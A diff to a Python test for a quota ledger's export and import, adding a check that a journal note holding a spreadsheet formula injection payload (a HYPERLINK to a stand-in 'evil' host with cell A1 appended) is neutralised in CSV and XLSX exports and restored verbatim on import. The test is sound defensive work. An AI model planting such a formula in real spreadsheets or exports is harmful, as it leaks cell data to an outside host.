@@ -8,6 +8,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import zipfile
 from collections.abc import AsyncIterator, Iterator
 from decimal import Decimal
 from pathlib import Path
@@ -373,7 +374,10 @@ async def test_export_round_trips_into_an_empty_ledger(
     q: Quota, db_url: str, tmp_path: Path
 ) -> None:
     owner = uscc("OWNERX1")
-    await q.baseline(JIZHOU, "12.5")
+    # A note a spreadsheet would run: quoted in the CSV, text in the sheet,
+    # and imported as written.
+    formula = '=HYPERLINK("http://evil/?"&A1,"点我")'
+    await q.baseline(JIZHOU, "12.5", note=formula)
     await testing.deliver(q.app, cancelled("PM-X", "3.25"))
     await confirm_all_pending(q)
     await allocate_to(q, "proj-x", "2.5", owner)
@@ -395,9 +399,28 @@ async def test_export_round_trips_into_an_empty_ledger(
     lots_page = (await q.client.get("/quota/lots", headers=AUDITOR)).json()["items"]
     before_lots = [(lot["id"], lot["serial"]) for lot in lots_page]
     kind = "sqlite" if db_url.startswith("sqlite") else "pg"
+    notes = sorted(
+        str(e["note"])
+        for e in (await q.client.get("/quota/journal?limit=500", headers=AUDITOR)).json()["items"]
+    )
+    assert formula in notes
     for fmt in ("csv", "xlsx"):
         r = await q.client.get(f"/quota/export?format={fmt}", headers=AUDITOR)
         assert r.status_code == 200, r.text
+        if fmt == "csv":
+            with zipfile.ZipFile(io.BytesIO(r.content)) as z:
+                assert ",\"'" + formula.replace('"', '""') + '",' in z.read("journal.csv").decode()
+        else:
+            from openpyxl import load_workbook
+
+            book = load_workbook(io.BytesIO(r.content))
+            assert not [
+                c
+                for ws in book.worksheets
+                for row in ws.iter_rows()
+                for c in row
+                if c.data_type == "f"
+            ]
         async with testing.database_url(kind, tmp_path, prefix="imp") as url:
             app = create(Settings(database_url=url, log_json=False, hold_sweep_seconds=3600))
             async with testing.running(app) as client:
@@ -418,6 +441,8 @@ async def test_export_round_trips_into_an_empty_ledger(
                 assert await copy.availability(JIZHOU) == before
                 rec = (await client.get("/quota/reconciliation", headers=AUDITOR)).json()
                 assert rec["ok"], rec
+                journal = await client.get("/quota/journal?limit=500", headers=AUDITOR)
+                assert sorted(str(e["note"]) for e in journal.json()["items"]) == notes
                 # Key sequences follow the imported rows: new lots and entries fit.
                 await copy.baseline(JIZHOU, "1")
                 more = await reserve(copy, "proj-after", "0.1")
